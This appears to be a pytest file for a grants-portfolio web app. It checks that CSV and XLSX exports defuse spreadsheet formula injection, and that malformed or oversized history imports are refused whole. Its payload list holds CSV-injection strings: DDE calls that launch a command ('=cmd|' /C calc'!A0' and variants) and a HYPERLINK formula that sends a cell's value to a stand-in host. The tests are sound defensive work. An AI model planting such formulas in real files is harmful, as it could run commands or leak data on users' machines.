"""Spreadsheet formulas hidden in text ("CSV injection") and hostile import files: text
that came from outside (an imported history file, a proposal's title, an organisation's
name) leaves every CSV and XLSX export as text a spreadsheet does not run; a history file
that is no UTF-8 CSV, too large, or too wide in one field is refused with a 4xx and a
message, and nothing of it is imported."""
import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from tests import files
from tests.factories import CallFactory, OrganisationFactory, ProposalFactory, make_user
from tests.helpers import bearer, web_login
from unscar.csvfiles import safe_text
from unscar.extensions import db
from unscar.portfolio.history import COLUMNS
from unscar.portfolio.models import PastProject

API = "/api/v1/portfolio"
PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1)', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1dcmd|' /C calc'!A0"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _row(year: int, reference: str, organisation: str, title: str) -> dict:
    return {"year": str(year), "reference": reference, "organisation": organisation, "organisation_type": "ngo",
            "organisation_country": "BRA", "title": title, "countries": "BRA", "themes": "public_awareness",
            "activity_types": "capacity_building", "instruments": "poa", "approved_usd": "1000.00",
            "start_date": "2016-01-01", "end_date": "2016-12-31"}


def _csv(rows: list[dict]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def _import(client, headers, body: bytes, content_type: str = "text/csv"):
    return client.post(f"{API}/import", data=body, headers={**headers, "Content-Type": content_type})


def _is_formula(cell) -> bool:
    return isinstance(cell, str) and cell.lstrip(" ").startswith(FORMULA_STARTS) \
        and safe_text(cell) != cell  # a plain number ("-12.50") is a number


@pytest.fixture
def staff(client):
    return bearer(client, make_user("secretariat"))


@pytest.fixture
def imported(client, staff):
    """The history file with a formula in each text column of each row."""
    rows = [_row(2015, payload, payload, payload) for payload in PAYLOADS]
    response = _import(client, staff, _csv(rows))
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["imported"] == len(PAYLOADS)
    return rows


def test_imported_formulas_leave_the_csv_export_as_text(client, staff, imported):
    with client.get(f"{API}/export.csv", headers=staff) as response:
        text = response.get_data(as_text=True)
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    cells = [cell for row in table[1:] for cell in row]
    assert [cell for cell in cells if _is_formula(cell)] == []
    for payload in PAYLOADS:
        # Reference, title and organisation of the row, each kept whole behind an apostrophe.
        assert cells.count(f"'{payload}") == 3, payload


def test_imported_formulas_leave_the_xlsx_export_as_text(client, staff, imported):
    with client.get(f"{API}/export.xlsx", headers=staff) as response:
        book = load_workbook(io.BytesIO(response.get_data()))
    assert response.status_code == 200
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _is_formula(cell.value), (sheet.title, cell.coordinate, cell.value)
                found.append(cell.value)
    assert all(found.count(f"'{payload}") == 3 for payload in PAYLOADS)


def test_formulas_typed_by_applicants_leave_the_intake_csv_as_text(app, client):
    call = CallFactory()
    for payload in PAYLOADS:
        owner = make_user("applicant", organisation=OrganisationFactory(name=f"{payload} org"))
        ProposalFactory(call=call, owner=owner, title=f"{payload} title", submitted=True)
    db.session.commit()
    web_login(client, make_user("secretariat").email)
    with client.get(f"/screening/calls/{call.id}/proposals.csv") as response:
        text = response.get_data(as_text=True)
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]
    assert [cell for cell in cells if _is_formula(cell)] == []
    assert sum(cell.startswith("'") for cell in cells) == 2 * len(PAYLOADS)


def test_numbers_stay_numbers():
    assert [safe_text(v) for v in ("-12.50", "+3", "1000.00", "-")] == ["-12.50", "+3", "1000.00", "'-"]
    assert safe_text("  =1+1") == "'  =1+1" and safe_text("'=1") == "'=1"


@pytest.mark.parametrize("body, content_type, status, message", [
    (files.EXECUTABLE, "text/csv", 422, "UTF-8"),
    ("year,reference\n".encode("utf-16"), "text/csv", 422, "UTF-8"),
    (files.pdf_bytes(), "text/csv", 422, "columns"),
    (b"", "text/csv", 422, "columns"),
    (b"year;reference;title\n2015;X;Y\n", "text/csv", 422, "columns"),
    (_csv([_row(2015, "H-1", "Org", "Title")]), "multipart/form-data; boundary=x", 400, "text/csv"),
    (_csv([_row(2015, "H-1", "Org", "x" * 200_000)]), "text/csv", 422, "field larger than field limit"),
    (_csv([_row(2015, "H-1", "Org", "Title")]) + b"x" * (5 * 1024 * 1024), "text/csv", 413, "at most"),
])
def test_hostile_history_files_are_refused_whole(client, staff, body, content_type, status, message):
    response = _import(client, staff, body, content_type)
    assert response.status_code == status and response.mimetype == "application/problem+json"
    problem = response.get_json()
    assert message in " ".join([problem["detail"], *sum((problem.get("errors") or {}).values(), [])])
    assert db.session.scalar(select(func.count()).select_from(PastProject)) == 0


def test_a_row_with_a_nul_is_reported_by_its_line_and_left_out(client, staff):
    rows = [_row(2015, "H-1", "Good organisation", "Kept"), _row(2015, "H-2", "Bad\x00organisation", "Left out")]
    response = _import(client, staff, _csv(rows))
    assert response.status_code == 201
    body = response.get_json()
    assert body["imported"] == 1 and [error["line"] for error in body["errors"]] == [3]
    assert "NUL" in body["errors"][0]["message"]
    assert db.session.scalars(select(PastProject.reference)).all() == ["H-1"]


def test_the_import_command_refuses_a_file_that_is_not_utf8_text(runner, tmp_path):
    path = tmp_path / "history.csv"
    path.write_bytes(files.EXECUTABLE)
    result = runner.invoke(args=["unscar", "import-history", str(path)])
    assert result.exit_code == 1 and "not UTF-8" in result.output
    assert db.session.scalar(select(func.count()).select_from(PastProject)) == 0
